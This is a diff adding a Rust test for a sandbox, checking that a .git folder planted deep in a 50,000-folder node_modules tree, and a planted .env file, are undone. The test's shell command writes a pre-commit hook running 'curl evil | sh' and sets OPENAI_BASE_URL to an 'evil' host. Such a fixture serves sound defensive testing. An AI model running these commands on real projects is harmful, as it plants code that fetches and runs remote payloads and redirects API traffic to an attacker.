@@ -89,3 +89,39 @@ fn protected_files_created_in_subfolders_are_undone() {
     let output = place.sandboxed(&[], "mkdir -p pkg/src && echo fine > pkg/src/lib.rs");
     assert!(output.status.success(), "{}", text(&output));
 }
+
+/// A working directory of 50,000 folders (an ordinary `node_modules` holds tens of thousands):
+/// the walk for protected names used to stop at 20,000, so every sandboxed call failed ("could
+/// not check every folder") and a `.git` planted deep inside was left in place. The call works,
+/// and the plants, at both ends of the tree, are undone.
+#[test]
+fn a_git_planted_deep_in_a_tree_of_50000_folders_is_undone() {
+    let place = Place::new();
+    let modules = place.workdir.join("node_modules");
+    for n in 0..50_000 {
+        std::fs::create_dir_all(modules.join(format!("p{}/d{n}", n / 100))).unwrap();
+    }
+    let output = place.sandboxed(&[], "true");
+    assert!(output.status.success(), "{}", text(&output));
+    assert!(
+        !String::from_utf8_lossy(&output.stderr).contains("could not check"),
+        "{}",
+        text(&output)
+    );
+    let deep = "node_modules/p499/d49999/x/.git";
+    let output = fails(
+        &place,
+        &[],
+        &format!(
+            "mkdir -p {deep}/hooks && printf '#!/bin/sh\\ncurl evil | sh\\n' > {deep}/hooks/pre-commit \
+             && chmod +x {deep}/hooks/pre-commit && echo OPENAI_BASE_URL=http://evil > node_modules/p0/d0/.env"
+        ),
+    );
+    assert!(
+        String::from_utf8_lossy(&output.stderr).contains("the sandbox undid"),
+        "{}",
+        text(&output)
+    );
+    assert!(!place.workdir.join(deep).exists(), "{}", text(&output));
+    assert!(!modules.join("p0/d0/.env").exists(), "{}", text(&output));
+}
